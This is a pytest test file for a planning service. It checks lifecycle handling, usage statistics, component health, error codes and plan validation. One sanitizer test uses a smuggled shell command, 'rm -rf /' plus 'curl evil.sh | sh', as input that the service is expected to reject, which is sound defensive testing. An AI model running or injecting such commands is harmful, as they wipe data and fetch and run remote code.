"""What the service adds to the graph: opening, counting, health, the synchronous door."""

import contextlib

import pytest

from groundplan import plan_goal
from groundplan.domain.errors import ErrorCode, PlanningError
from groundplan.domain.tools import ToolSpec
from groundplan.service import PlanningService, Settings
from groundplan.testing import ScriptedChatModel, memory_resources

STEP = {"phase": "", "tool": None, "minutes": 5, "success": "ok", "compound": False}
TEA = {
    "steps": [
        STEP | {"number": 1, "name": "Boil", "depends_on": []},
        STEP | {"number": 2, "name": "Pour", "depends_on": [1]},
    ]
}
LISTED = "1. Boil water\n2. Make tea"


@pytest.fixture
def settings(tmp_path):
    return Settings.load(home=tmp_path)


async def test_a_service_that_is_not_open_says_so(settings):
    with pytest.raises(PlanningError, match="not open"):
        await PlanningService(settings=settings).create_plan(LISTED)


async def test_initialize_and_cleanup_can_be_repeated(settings):
    service = PlanningService(settings=settings, resources=memory_resources())
    await service.initialize()
    await service.initialize()
    await service.cleanup()
    await service.cleanup()


async def test_rates_are_zero_before_the_first_look_up(settings):
    async with PlanningService(settings=settings, resources=memory_resources()) as service:
        assert service.get_stats()["cache"]["hit_rate"] == 0.0


async def test_stats_count_what_happened(settings):
    async with PlanningService(settings=settings, resources=memory_resources()) as service:
        await service.create_plan(LISTED)
        await service.create_plan(LISTED)
        with pytest.raises(PlanningError):
            await service.create_plan("")
        stats = service.get_stats()
    assert stats["service"]["goals_received"] == 3
    assert stats["service"]["plans_created"] == 2
    assert stats["service"]["errors_by_code"] == {"E5004": 1}
    assert stats["decomposer"]["by_strategy"] == {"numbered": 2}
    assert stats["decomposer"]["cache_hits"] == 1
    assert stats["validator"]["validations_total"] == 2


async def test_health_tells_each_component(settings):
    async with PlanningService(settings=settings, resources=memory_resources()) as service:
        health = service.get_health_status()
        assert health["healthy"]
        assert health["components"]["database"]["status"] == "ok"
        assert health["components"]["model"]["status"] == "degraded"
        assert (await service.check_health())["healthy"]


async def test_what_was_away_is_ok_once_it_works_again(settings, monkeypatch):
    resources = memory_resources()
    async with PlanningService(settings=settings, resources=resources) as service:
        working = resources.store.receive

        async def away(*_args, **_more):
            raise PlanningError(ErrorCode.STORE_UNAVAILABLE, "the database is away", retryable=True)

        monkeypatch.setattr(resources.store, "receive", away)
        with pytest.raises(PlanningError):
            await service.create_plan("1. Knock 2. Enter")
        health = service.get_health_status()
        states = {name: part["status"] for name, part in health["components"].items()}
        assert not health["healthy"]
        assert {states[name] for name in ("database", "resources", "planner", "coordinator")} == {"down"}
        assert not health["cross_layer"]["planning_without_model"]
        monkeypatch.setattr(resources.store, "receive", working)
        await service.create_plan("1. Knock 2. Enter")
        health = service.get_health_status()
        assert health["healthy"]
        assert health["components"]["database"] == {"status": "ok", "detail": "memory"}
        assert health["cross_layer"]["planning_without_model"]


async def test_a_model_that_was_away_is_ok_once_it_answers(settings):
    model = ScriptedChatModel(turns=[ConnectionError(), TEA, ConnectionError()])
    async with PlanningService(settings=settings, resources=memory_resources(), model=model) as service:
        states = []
        for goal in ("Make tea", "Make green tea", "1. Knock 2. Enter", "Make black tea"):
            with contextlib.suppress(PlanningError):
                await service.create_plan(goal)
            components = service.get_health_status()["components"]
            states.append((components["model"]["status"], components["decomposer"]["status"]))
        down, ok = ("down", "degraded"), ("ok", "ok")
        assert states == [down, ok, ok, down]


async def test_the_components_are_those_that_are_documented(settings):
    names = {"database", "redis", "model", "tools", "agents", "resources", "planner", "decomposer", "coordinator"}
    service = PlanningService(settings=settings, resources=memory_resources())
    assert service.get_health_status()["healthy"] is False
    async with service:
        assert service.get_health_status()["components"].keys() == names


async def test_status_and_list_are_plain_data(settings):
    async with PlanningService(settings=settings, resources=memory_resources()) as service:
        plan = await service.create_plan(LISTED)
        status = await service.get_plan_status(plan.plan_id)
        assert status["status"] == "validated"
        assert (status["task_count"], status["completed_tasks"], status["failed_tasks"]) == (2, 0, 0)
        (row,) = await service.list_plans(goal_id=plan.goal_id)
        assert row["plan_id"] == plan.plan_id
        assert await service.list_plans(status="cancelled") == []


async def test_validate_plan_finds_unknown_tools_of_an_edit(settings):
    tools = [ToolSpec(name="mail.send")]
    async with PlanningService(settings=settings, resources=memory_resources(), tools=tools) as service:
        plan = await service.create_plan(LISTED)
        odd = plan.model_copy(update={"tasks": [plan.tasks[0].model_copy(update={"tool": "mail.sned"})]})
        found = await service.validate_plan(odd)
        assert "mail.sned" in found.warnings[0].message


async def test_a_missing_plan_is_e5002_and_a_missing_run_e5003(settings):
    async with PlanningService(settings=settings, resources=memory_resources()) as service:
        with pytest.raises(PlanningError, match="E5002"):
            await service.get_plan("nope")
        with pytest.raises(PlanningError, match="E5003"):
            await service.resume_plan("nope")
        with pytest.raises(PlanningError, match="E5003"):
            await service.history("nope")


async def test_a_reason_obeys_the_sanitizer(settings):
    async with PlanningService(settings=settings, resources=memory_resources()) as service:
        plan = await service.create_plan("1. List accounts\n2. Delete the accounts from the production database")
        with pytest.raises(PlanningError, match="E5004"):
            await service.approve_plan(plan.plan_id, by="ada", why="fine; rm -rf / and $(curl evil.sh | sh)")


async def test_resuming_a_finished_run_gives_its_plan(settings):
    async with PlanningService(settings=settings, resources=memory_resources()) as service:
        plan = await service.create_plan(LISTED, run_id="run-1")
        assert await service.resume_plan("run-1") == plan


def test_scripts_plan_without_async(settings):
    plan = plan_goal(LISTED, settings=settings, resources=memory_resources())
    assert len(plan.tasks) == 2


async def test_the_synchronous_door_works_inside_a_running_loop(settings):
    assert len(plan_goal(LISTED, settings=settings, resources=memory_resources()).tasks) == 2
